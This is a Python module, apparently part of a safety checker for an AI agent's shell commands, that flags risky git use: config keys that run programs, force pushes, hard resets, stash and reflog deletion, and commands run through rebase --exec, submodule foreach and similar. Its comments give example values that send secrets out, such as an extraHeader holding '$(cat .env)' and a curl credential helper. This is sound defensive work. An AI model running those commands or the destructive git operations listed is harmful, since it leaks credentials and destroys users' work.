"""git: options that run programs, history and working-tree destruction, code in subcommands.

:func:`check_git` reports the warn band: ``git -c`` (config that can run programs), force
pushes and remote branch deletion, ``reset --hard``, ``clean -f``, discarding the working
tree (``checkout -- .``, ``restore .``, ``checkout -f``, ``switch --discard-changes``),
losing commits, stashes or changes (``stash clear``, ``reflog expire``, ``gc
--prune=now``, ``filter-branch --force``, ``update-ref -d``, ``rm -f``) and ``git
config`` of keys that run programs. :func:`git_commands` returns what git
subcommands run: command strings (``rebase --exec``, ``difftool -x``, ``submodule foreach``,
``filter-branch --tree-filter``, ``grep -O``, ``clone --upload-pack``) and argument vectors
(``bisect run CMD ARGS``).
"""

from __future__ import annotations

from collections.abc import Callable

from ._embedded import GIT_GLOBAL_ARG, git_exec_key, is_hooks_path
from ._embedded import git_sub_index as _subcommand
from ._gitkeys import ext_argv, is_credential_helper
from ._hdrdata import header_secrets
from ._resolve import Invocation
from ._words import Field

__all__ = ["check_git", "config_codes", "config_setting", "git_commands"]

Add = Callable[[str, tuple[int, int], str, "str | None"], None]

# git's own credential helpers (``store``, ``cache``) and the common platform ones: naming
# one runs no program of the agent's choosing.
_GIT_CREDENTIAL_HELPERS = frozenset({"store", "cache", "osxkeychain", "manager", "manager-core",
                                     "libsecret", "wincred", ""})
# Pathspecs that name the whole working tree.
_WHOLE_TREE = frozenset({".", "./", ":/", ":/.", "*", ":(top)", ":(glob)**", "/"})


def _short(t: str, letters: str) -> bool:
    """``t`` is a short-option cluster holding one of ``letters`` (``-fd`` holds d)."""
    return t.startswith("-") and not t.startswith("--") and any(c in t[1:] for c in letters)


def check_git(add: Add, inv: Invocation) -> None:
    args = inv.args
    i = 0
    while i < len(args) and args[i].text.startswith("-"):
        t = args[i].text
        if t == "-c" or t.startswith("--config-env") or (t.startswith("-c") and len(t) > 2):
            add("shell.git-config-exec", args[i].span,
                "git -c sets config that can run programs (core.pager, core.sshCommand...)",
                None)
            setting = (args[i + 1].text if i + 1 < len(args) else "") if t == "-c" else \
                t.partition("=")[2] if t.startswith("--config-env=") else t[2:]
            if is_hooks_path(setting.partition("=")[0]):
                add("shell.git-hook", args[i].span, "git -c core.hooksPath=DIR makes git "
                    "run hook scripts from DIR", None)
            holder = args[i + 1] if t == "-c" and i + 1 < len(args) else args[i]
            if setting.partition("=")[0].lower().endswith(".extraheader") and \
                    header_secrets(Field(setting.partition("=")[2], holder.span, holder.taint)):
                # git -c http.extraHeader="X: $(cat .env)": sent with every request
                add("shell.exfiltration", holder.span, "git sends secret data in an HTTP "
                    "header (http.extraHeader) to the remote", None)
        i += 2 if t in GIT_GLOBAL_ARG else 1
    if i >= len(args):
        return
    sub = args[i].text
    rest = args[i + 1:]
    texts = [f.text for f in rest]
    span = (args[i].span[0], (rest[-1].span[1] if rest else args[i].span[1]))
    if sub == "push" and any(t in ("-f", "--force", "--force-with-lease", "--mirror") or
                             t.startswith("--force") or (t.startswith("+") and len(t) > 1)
                             or _short(t, "f") for t in texts):
        add("shell.git-destructive", span, "git push --force overwrites remote history", None)
    elif sub == "push" and any(t == "--delete" or _short(t, "d") or
                               (t.startswith(":") and len(t) > 1) for t in texts):
        add("shell.git-destructive", span, "git push --delete deletes a remote branch", None)
    elif sub == "reset" and "--hard" in texts:
        add("shell.git-destructive", span, "git reset --hard discards local changes", None)
    elif sub == "clean" and any(_short(t, "f") or t == "--force" for t in texts) and not any(
            t == "--dry-run" or _short(t, "n") for t in texts):
        add("shell.git-destructive", span, "git clean -f deletes untracked files", None)
    elif sub in ("checkout", "restore", "switch") and _discards(sub, texts):
        add("shell.git-destructive", span, f"git {sub} discards uncommitted changes in the "
            "working tree", None)
    elif sub in _LOSSES and (loss := _LOSSES[sub](texts)) is not None:
        add("shell.git-destructive", span, loss, None)
    elif sub == "config" and config_setting(texts) is not None and any(
            (t.lower().startswith(("core.pager", "core.sshcommand", "core.fsmonitor",
                                   "core.gitproxy",
                                   "core.editor", "core.askpass", "credential.helper",
                                   "diff.external", "gpg.program"))
             and not (t.lower().startswith("credential.helper") and i + 1 < len(texts) and
                      texts[i + 1].split(" ", 1)[0] in _GIT_CREDENTIAL_HELPERS)
             and not (t.lower() == "core.fsmonitor" and i + 1 < len(texts) and
                      git_exec_key(t, texts[i + 1]) is None)
             and not (i + 1 < len(texts) and _everyday_program(t, texts[i + 1])))
            or (t.lower().startswith("alias.") and i + 1 < len(texts) and
                texts[i + 1].startswith("!"))
            or _includes_file(t)
            for i, t in enumerate(texts)):
        add("shell.git-config-exec", span, "git config sets a key that runs programs", None)
    if sub == "config":
        written = config_setting(texts)
        if written is not None and is_hooks_path(written[0]):
            add("shell.git-hook", span, f"git config core.hooksPath {written[1]} makes git "
                "run hook scripts from that directory", None)


# Programs people set as their editor, pager, ssh or signing program every day: naming one
# (with plain options and paths) runs nothing of an agent's choosing.
_EVERYDAY_PROGRAMS = {
    "core.editor": frozenset({"vi", "vim", "nvim", "gvim", "nano", "emacs", "emacsclient",
                              "code", "code-insiders", "codium", "subl", "mate", "micro",
                              "hx", "helix", "kak", "gedit", "kate", "zed", "cursor", "ed",
                              "pico", "joe", "mg", "notepad", "notepad++", "idea", "pycharm"}),
    "core.pager": frozenset({"less", "more", "cat", "delta", "diff-so-fancy", "bat",
                             "most", "diff-highlight", "riff"}),
    "core.sshcommand": frozenset({"ssh"}),
    "gpg.program": frozenset({"gpg", "gpg2", "gpgsm", "gpg.exe"}),
}
# What would make a value more than a program with options and paths: shell syntax git's
# sh -c would act on (separators, expansions, redirections, quotes, globs, comments).
_RUNS_MORE = ("command", "pager", "exec", "proxy", "match", "program", "helper", "open")
_SHELL_SYNTAX = frozenset(";|&$`()<>\\'\"*?[{#!\n")


def _everyday_program(key: str, value: str) -> bool:
    """``git config core.editor vim``: the value names a known editor, pager, ssh or gpg
    (by name or absolute path) with plain words after it, so the setting runs that program
    and nothing else. Any shell syntax in the value keeps the warning."""
    known = _EVERYDAY_PROGRAMS.get(key.lower())
    if known is None or not value or any(c in _SHELL_SYNTAX for c in value):
        return False
    words = value.split()
    if not words:
        return False
    program = words[0]
    if "/" in program and not program.startswith(("/usr/", "/bin/", "/opt/homebrew/")):
        return False  # a program in the project or /tmp could be anything
    name = program.rsplit("/", 1)[-1]
    if name not in known:
        return False
    # Options that make the program run another one: ssh -o ProxyCommand=/LocalCommand=/
    # KnownHostsCommand=, ssh -F FILE (a config holding those), delta --pager=, --exec...
    for word in words[1:]:
        low = word.lower()
        if any(part in low for part in _RUNS_MORE) or (name == "ssh" and low.startswith("-f")):
            return False
    return True


def _includes_file(key: str) -> bool:
    """``include.path`` and ``includeIf.<condition>.path``: git reads more config from that
    file, where any key that runs programs (core.pager, core.fsmonitor...) can be set."""
    low = key.lower()
    return low == "include.path" or (low.startswith("includeif.") and low.endswith(".path"))


def _stash_loss(texts: list[str]) -> str | None:
    # stash drop (one entry) and branch -D (cleanup after a squash merge) are everyday and
    # pass; clearing every stash at once does not have that use.
    if texts and texts[0] == "clear":
        return "git stash clear deletes every stashed change"
    return None


def _reflog_loss(texts: list[str]) -> str | None:
    # The reflog is what recovers commits lost to a reset or a deleted branch.
    if texts and texts[0] in ("expire", "delete"):
        return f"git reflog {texts[0]} removes the record that recovers lost commits"
    return None


def _gc_loss(texts: list[str]) -> str | None:
    if any(t in ("--prune=now", "--prune=all") for t in texts):
        return "git gc --prune=now deletes unreachable commits at once (no grace period)"
    return None


def _rewrite_loss(texts: list[str]) -> str | None:
    # Without --force, filter-branch keeps the old history under refs/original/ and
    # filter-repo runs only in a fresh clone; --force gives up both safeguards.
    if any(t in ("-f", "--force") for t in texts):
        return "git filter-branch/filter-repo --force rewrites history without a backup"
    return None


def _update_ref_loss(texts: list[str]) -> str | None:
    if any(t == "-d" for t in texts):
        return "git update-ref -d deletes a ref (a branch or tag) without any check"
    return None


def _rm_loss(texts: list[str]) -> str | None:
    # git rm refuses to delete files with changes unless forced; --cached keeps the files.
    if any(t == "--cached" for t in texts):
        return None
    if any(t == "--force" or _short(t, "f") for t in texts if t != "--"):
        return "git rm -f deletes files together with their uncommitted changes"
    return None


# git subcommands that lose commits, stashes or uncommitted work, with the check for each.
_LOSSES: dict[str, Callable[[list[str]], str | None]] = {
    "stash": _stash_loss, "reflog": _reflog_loss, "gc": _gc_loss,
    "filter-branch": _rewrite_loss, "filter-repo": _rewrite_loss,
    "update-ref": _update_ref_loss, "rm": _rm_loss,
}


# git config options that only read or remove settings, and those that take a value.
_CONFIG_NO_SET = frozenset({"--get", "--get-all", "--get-regexp", "--get-urlmatch", "-l",
                            "--list", "--unset", "--unset-all", "--remove-section",
                            "--rename-section", "-e", "--edit", "--get-color",
                            "--get-colorbool", "--show-origin", "--show-scope"})
_CONFIG_SUB_NO_SET = frozenset({"get", "list", "unset", "remove-section", "rename-section",
                                "edit"})
_CONFIG_ARG = frozenset({"-f", "--file", "--blob", "--type", "--default", "--comment",
                         "--value"})


def config_setting(texts: list[str]) -> tuple[str, str] | None:
    """The KEY and VALUE that ``git config [opts] [set] KEY VALUE`` writes, or None for a
    read, an unset or a listing (``git config core.hooksPath``, ``--unset``, ``get``)."""
    operands: list[str] = []
    skip = False
    for t in texts:
        if skip:
            skip = False
        elif t.startswith("-"):
            if t in _CONFIG_NO_SET:
                return None
            skip = t in _CONFIG_ARG
        else:
            operands.append(t)
    if operands and operands[0] in _CONFIG_SUB_NO_SET:
        return None
    if operands and operands[0] == "set":
        operands = operands[1:]
    return (operands[0], operands[1]) if len(operands) >= 2 else None


def _discards(sub: str, texts: list[str]) -> bool:
    """``checkout -f``/``checkout -- .``/``restore .``/``switch --discard-changes``."""
    if any(t in ("-p", "--patch") or _short(t, "p") for t in texts):
        return False  # interactive: the user picks each hunk
    if sub == "switch":
        return any(t in ("--force", "--discard-changes") or _short(t, "f") for t in texts)
    if sub == "checkout" and any(t == "--force" or (_short(t, "f") and not _short(t, "bB"))
                                 for t in texts):
        return True
    if sub == "restore":
        staged = any(t == "--staged" or _short(t, "S") for t in texts)
        worktree = any(t == "--worktree" or _short(t, "W") for t in texts)
        if staged and not worktree:
            return False  # restore --staged only unstages: the files are untouched
    skip = False
    for t in texts:
        if skip:
            skip = False
        elif t in ("-b", "-B", "--orphan", "-s", "--source", "--conflict"):
            skip = True
        elif t in _WHOLE_TREE:
            return True
    return False


# Options whose argument is a command string, by subcommand (rebase --exec 'make test').
_CODE_OPTS: dict[str, tuple[str, tuple[str, ...]]] = {
    "rebase": ("x", ("--exec",)),
    "difftool": ("x", ("--extcmd",)),
    "filter-branch": ("", ("--tree-filter", "--index-filter", "--msg-filter", "--env-filter",
                           "--parent-filter", "--commit-filter", "--tag-name-filter",
                           "--setup")),
    "send-email": ("", ("--sendmail-cmd", "--to-cmd", "--cc-cmd", "--header-cmd")),
    # The transport helper runs through a shell (locally for local and ssh remotes).
    "clone": ("u", ("--upload-pack",)),
    "fetch": ("", ("--upload-pack",)),
    "pull": ("", ("--upload-pack",)),
    "ls-remote": ("", ("--upload-pack",)),
    "push": ("", ("--receive-pack", "--exec")),
    "archive": ("", ("--exec",)),
}
# Short options of those subcommands that take a separate argument (not code).
_ARG_LETTERS = {"rebase": "sXC", "difftool": "t", "clone": "obcj"}


def git_commands(inv: Invocation) -> tuple[list[tuple[str, Field]], list[list[Field]]]:
    """Command strings (with the option that holds each) and argument vectors that a git
    subcommand runs (``ext::CMD ARGS`` URLs are argument vectors too)."""
    codes, argvs = _sub_commands(inv)
    for f in inv.args:
        if f.text.startswith("ext::"):
            argv = ext_argv(f)
            if argv:
                argvs = [*argvs, argv]
    return codes, argvs


def config_codes(inv: Invocation) -> list[tuple[Field, bool]]:
    """The code that ``git config [opts] KEY VALUE`` sets (any exec key), and credential
    helpers set by ``git -c``/``git clone -c`` (other ``-c`` values are ``_embedded``'s),
    each with whether it is a credential helper (it runs with the credentials on stdin:
    ``credential.helper '!curl -d @- URL'`` sends them)."""
    args = inv.args
    out: list[tuple[Field, bool]] = []
    sub = _subcommand(args)
    for k, f in enumerate(args):
        t = f.text
        setting: Field | None = None
        if t in ("-c", "--config") and k + 1 < len(args) and (k < sub or t == "--config" or
                                                            args[sub].text == "clone"):
            setting = args[k + 1]
        elif t.startswith("--config="):
            setting = Field(t[9:], f.span, f.taint)
        elif t.startswith("-c") and len(t) > 2 and k < sub:
            setting = Field(t[2:], f.span, f.taint)
        if setting is not None:
            key, _, value = setting.text.partition("=")
            code = git_exec_key(key, value) if is_credential_helper(key) else None
            if code is not None:
                out.append((Field(code, setting.span, setting.taint), True))
    if sub < len(args) and args[sub].text == "config":
        written = config_setting([f.text for f in args[sub + 1:]])
        code = git_exec_key(*written) if written is not None else None
        if code is not None and written is not None:
            field = next((f for f in reversed(args) if f.text == written[1]), None)
            if field is not None:
                out.append((Field(code, field.span, field.taint),
                            is_credential_helper(written[0])))
    return out


def _sub_commands(inv: Invocation) -> tuple[list[tuple[str, Field]], list[list[Field]]]:
    args = inv.args
    i = _subcommand(args)
    if i >= len(args):
        return [], []
    sub = args[i].text
    rest = args[i + 1:]
    codes: list[tuple[str, Field]] = []
    if sub == "bisect":
        if rest and rest[0].text == "run" and len(rest) > 1:
            return [], [rest[1:]]
        return [], []
    if sub == "submodule":
        k = 0
        while k < len(rest) and rest[k].text.startswith("-"):
            k += 1
        if k < len(rest) and rest[k].text == "foreach":
            k += 1
            while k < len(rest) and rest[k].text in ("--recursive", "-q", "--quiet"):
                k += 1
            cmd = rest[k:]
            if len(cmd) == 1:
                codes.append(("git submodule foreach", cmd[0]))
            elif cmd:
                return [], [cmd]
        return codes, []
    if sub == "grep":
        for f in rest:
            t = f.text
            value = t[2:] if t.startswith("-O") and len(t) > 2 else (
                t.split("=", 1)[1] if t.startswith("--open-files-in-pager=") else "")
            if value:
                codes.append(("git grep -O", Field(value, f.span, f.taint)))
        return codes, []
    if sub == "clone":
        # git clone -c core.sshCommand=CMD: config of the new repository, used at once.
        for k, f in enumerate(rest):
            setting = rest[k + 1] if f.text in ("-c", "--config") and k + 1 < len(rest) else (
                Field(f.text.split("=", 1)[1], f.span, f.taint)
                if f.text.startswith("--config=") else None)
            if setting is not None:
                key, _, value = setting.text.partition("=")
                code = None if is_credential_helper(key) else git_exec_key(key, value)
                if code is not None:
                    codes.append(("git clone -c", Field(code, setting.span, setting.taint)))
    spec = _CODE_OPTS.get(sub)
    if spec is None:
        return codes, []
    letter, longs = spec
    arg_letters = _ARG_LETTERS.get(sub, "")
    k = 0
    while k < len(rest):
        f = rest[k]
        t = f.text
        nxt = rest[k + 1] if k + 1 < len(rest) else None
        if t == "--":
            break
        opt, eq, value = t.partition("=")
        if opt in longs:
            if eq:
                codes.append((f"git {sub} {opt}", Field(value, f.span, f.taint)))
            elif nxt is not None:
                codes.append((f"git {sub} {opt}", nxt))
                k += 1
        elif letter and t.startswith("-") and not t.startswith("--"):
            for pos in range(1, len(t)):
                c = t[pos]
                if c == letter:
                    if pos + 1 < len(t):
                        codes.append((f"git {sub} -{letter}", Field(t[pos + 1:], f.span,
                                                                      f.taint)))
                    elif nxt is not None:
                        codes.append((f"git {sub} -{letter}", nxt))
                        k += 1
                    break
                if c in arg_letters:
                    k += pos + 1 == len(t)
                    break
        k += 1
    return codes, []
